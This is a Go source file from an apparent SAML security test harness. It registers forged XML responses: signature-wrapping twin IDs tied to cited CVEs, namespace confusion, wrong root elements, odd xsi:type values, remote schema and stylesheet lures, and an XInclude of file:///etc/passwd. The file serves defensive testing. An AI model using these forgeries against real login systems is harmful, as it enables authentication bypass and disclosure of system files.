package forge

import (
	"fmt"

	"github.com/beevik/etree"

	"rollcall.example/simulator/idp"
)

// Well-formed documents of the wrong shape: attributes and prefixes that mislead, roots
// that are no response, and what a helpful parser would go and fetch.
func init() {
	register("xml",
		Attack{
			Row: "XML-11", Name: "twin-id-on-assertion", Rule: "twin-id", Modes: OnAssertion, Expect: Harmless,
			Summary: "has a forged assertion whose second ID, in a namespace, is that of the signed one",
			wraps:   true,
			Sources: []string{"CVE-2025-66567", "PortSwigger, The Fragile Lock (2025)"},
			document: arranged(false, func(w wrapping) error {
				return w.besides(func(forged *etree.Element) {
					forged.CreateAttr("saml2:ID", w.assertion.SelectAttrValue("ID", ""))
					before(w.assertion, forged)
				})
			}),
		},
		Attack{
			Row: "XML-11", Name: "twin-id-on-response", Rule: "twin-id", Modes: OnResponse, Expect: Harmless,
			Summary: "is forged, and its second ID, in a namespace, is that of the signed one in it",
			Sources: []string{"CVE-2025-66567", "PortSwigger, The Fragile Lock (2025)"},
			document: arranged(false, func(w wrapping) error {
				signed := w.response.SelectAttrValue("ID", "")
				return w.forgeResponse(func(original, signature *etree.Element) {
					w.response.CreateAttr("saml2p:ID", signed)
					inObject(signature, original)
				})
			}),
		},
		Attack{
			Row: "XML-12", Name: "namespace-confusion-invalid", Rule: "namespace-confusion", Modes: OnAssertion, Expect: Harmless, wraps: true,
			Summary: "has a forged assertion that declares a namespace which is no URI, before the signed one",
			Sources: []string{"CVE-2025-25292", "CVE-2025-66567"},
			document: arranged(false, func(w wrapping) error {
				return w.besides(func(forged *etree.Element) {
					forged.CreateAttr("xmlns:example", "http://example.com\u0080")
					before(w.assertion, forged)
				})
			}),
		},
		Attack{
			Row: "XML-12", Name: "namespace-confusion-rebound", Rule: "namespace-confusion", Modes: OnAssertion, Expect: Harmless, wraps: true,
			Summary: "has a forged assertion whose prefix means another namespace, before the signed one",
			Sources: []string{"CVE-2025-25292", "CVE-2025-66567"},
			document: arranged(false, func(w wrapping) error {
				return w.besides(func(forged *etree.Element) {
					forged.CreateAttr("xmlns:saml2", "urn:rollcall:other")
					before(w.assertion, forged)
				})
			}),
		},
		Attack{
			Row: "XML-28", Name: "bare-assertion", Modes: OnAssertion, Summary: "is an assertion alone",
			Only: "there is no response that could be signed",
			document: func(_ Donor, draft *idp.Draft) error {
				draft.Document.SetRoot(draft.Assertion)
				return nil
			},
		},
		Attack{
			Row: "XML-30", Name: "foreign-element", Modes: Alone, Expect: Warn, Summary: "has an element in its assertion that no schema knows",
			draft: func(_ Donor, draft *idp.Draft) error {
				draft.Assertion.AddChild(foreign("Note", "nothing"))
				return nil
			},
		},
		Attack{
			Row: "XML-34", Name: "style-sheet", Modes: OnAssertion, Expect: Harmless, Lure: true, Summary: "names a style sheet elsewhere",
			bytes: underDoctype(func(d Donor) string {
				return fmt.Sprintf(`<?xml-stylesheet type="text/xsl" href="%s/style"?>`, d.Collector)
			}),
		},
	)
	for _, root := range []struct{ rule, name, called, tag, namespace string }{
		{"root-namespace", "old", "is a response of SAML 1.1", "Response", "urn:oasis:names:tc:SAML:1.0:protocol"},
		{"root-namespace", "none", "is a response in no namespace", "Response", ""},
		{"other-root", "request", "is an AuthnRequest with an assertion in it", "AuthnRequest", nsProtocol},
		{"other-root", "logout", "is a LogoutResponse with an assertion in it", "LogoutResponse", nsProtocol},
		{"other-root", "artifact", "is an ArtifactResponse with an assertion in it", "ArtifactResponse", nsProtocol},
		{"other-root", "metadata", "is metadata with an assertion in it", "EntityDescriptor", "urn:oasis:names:tc:SAML:2.0:metadata"},
	} {
		row := "XML-27"
		if root.rule == "other-root" {
			row = "XML-29"
		}
		register("xml", Attack{
			Row: row, Name: root.rule + "-" + root.name, Rule: root.rule, Modes: OnAssertion, Summary: root.called,
			around: func(_ Donor, draft *idp.Draft) error {
				el := draft.Response
				el.Tag = root.tag
				if root.namespace != nsProtocol {
					el.Space = ""
					el.RemoveAttr("xmlns:saml2p")
				}
				if el.Space == "" && root.namespace != "" {
					el.CreateAttr("xmlns", root.namespace)
				}
				return nil
			},
		})
	}
	for _, odd := range []struct{ name, called, path, value string }{
		{"uri", "a value that says it is a URI", "AttributeStatement/Attribute/AttributeValue", "xs:anyURI"},
		{"foreign", "a value of a type that nobody knows", "AttributeStatement/Attribute/AttributeValue", "xs:rollcall"},
		{"statement", "a statement that says it is of another type", "AuthnStatement", "saml2:AuthzDecisionStatementType"},
	} {
		register("xml", Attack{
			Row: "XML-31", Name: "odd-type-" + odd.name, Rule: "odd-type", Modes: OnAssertion, Expect: Harmless, NoCrash: true,
			Summary: "has " + odd.called,
			claims:  says(func(c *idp.Claims) { c.Attributes = replaced(c.Attributes, "admin", "false") }),
			draft: func(_ Donor, draft *idp.Draft) error {
				el, err := find(draft.Assertion, odd.path)
				if err == nil {
					el.CreateAttr("xmlns:xsi", nsInstance)
					el.CreateAttr("xsi:type", odd.value)
				}
				return err
			},
		})
	}
	for _, schema := range []struct{ name, attribute, before string }{
		{"location", "schemaLocation", nsProtocol + " "}, {"plain", "noNamespaceSchemaLocation", ""},
	} {
		register("xml", Attack{
			Row: "XML-32", Name: "schema-elsewhere-" + schema.name, Rule: "schema-elsewhere", Modes: OnAssertion, Expect: Harmless, Lure: true,
			Summary: "says that its schema stands elsewhere (" + schema.attribute + ")",
			around: func(d Donor, draft *idp.Draft) error {
				draft.Response.CreateAttr("xmlns:xsi", nsInstance)
				draft.Response.CreateAttr("xsi:"+schema.attribute, schema.before+d.Collector+"/schema")
				return nil
			},
		})
	}
	for _, include := range []struct {
		name, called string
		href         func(Donor) string
		lure         bool
		leak         string
	}{
		{"file", "a file of the product's", fixed("file:///etc/passwd"), false, passwd},
		{"address", "what stands elsewhere", func(d Donor) string { return d.Collector + "/include" }, true, ""},
	} {
		register("xml", Attack{
			Row: "XML-33", Name: "inclusion-of-" + include.name, Rule: "inclusion", Modes: OnAssertion, Expect: Harmless, Lure: include.lure, Leak: include.leak,
			Summary: "includes " + include.called + " in its name",
			draft: func(d Donor, draft *idp.Draft) error {
				name, err := find(draft.Assertion, "Subject/NameID")
				if err != nil {
					return err
				}
				name.SetText("")
				el := name.CreateElement("xi:include")
				el.CreateAttr("xmlns:xi", "http://www.w3.org/2001/XInclude")
				el.CreateAttr("href", include.href(d))
				el.CreateAttr("parse", "text")
				return nil
			},
		})
	}
}

// nsInstance is the namespace of XML Schema's own attributes in documents.
const nsInstance = "http://www.w3.org/2001/XMLSchema-instance"
